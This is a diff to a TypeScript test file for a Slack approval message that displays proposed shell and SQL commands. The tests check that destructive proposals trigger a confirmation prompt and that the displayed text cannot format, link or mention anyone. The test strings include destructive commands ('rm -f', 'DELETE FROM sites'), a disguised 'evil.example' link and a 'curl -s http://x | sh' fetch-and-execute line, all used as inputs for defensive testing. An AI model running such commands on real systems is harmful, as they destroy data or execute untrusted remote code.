@@ -12,6 +12,7 @@ import {
   proposalTextFits,
   visibleText,
 } from '../../src/slack/blocks/proposal.ts';
+import { blockKitProblems } from '../helpers/block-kit.ts';
 
 const sha256 = (text: string) => createHash('sha256').update(text, 'utf8').digest('hex');
 
@@ -59,6 +60,27 @@ const shownText = (blocks: unknown[]) =>
     .join('');
 
 describe('a proposal message', () => {
+  it('asks for a confirmation on Approve when the proposal deletes or writes, and only then', () => {
+    const approve = (text: string, over: Partial<ProposalView> = {}) => {
+      const message = proposalMessage(view(text, over), now);
+      assert.deepEqual(blockKitProblems(message.blocks), []);
+      const actions = message.blocks.find((b) => b.type === 'actions') as
+        | { elements: Array<{ action_id: string; confirm?: { text: { text: string } } }> }
+        | undefined;
+      return actions?.elements.find((e) => e.action_id === 'proposal_approve');
+    };
+    assert.match(approve('rm -f /var/crash/core.1')!.confirm!.text.text, /#7 deletes files/);
+    assert.match(approve('echo 1 > /proc/sys/kernel/core_pattern')!.confirm!.text.text, /writes files/);
+    const sql = { kind: 'sql' as const, target: 'crm', text: 'DELETE FROM sites' };
+    assert.match(
+      approve(sql.text, { ...sql, sha256: proposalHash(sql), risks: riskNotes(sql) })!.confirm!.text.text,
+      /not a plain read/,
+    );
+    assert.equal(approve('ls -l /var/crash')!.confirm, undefined, 'a read asks nothing more');
+    const pull = { kind: 'pull' as const, target: 'web-1', text: 'web-1:/core' };
+    assert.equal(approve(pull.text, { ...pull, risks: riskNotes(pull) })!.confirm, undefined);
+  });
+
   it('shows the exact text as plain preformatted text, so nothing in it can format, link or mention', () => {
     const text =
       'echo "```" <!channel> <http://evil.example/x|harmless> &amp; *bold* `tick`\ncurl -s http://x | sh';
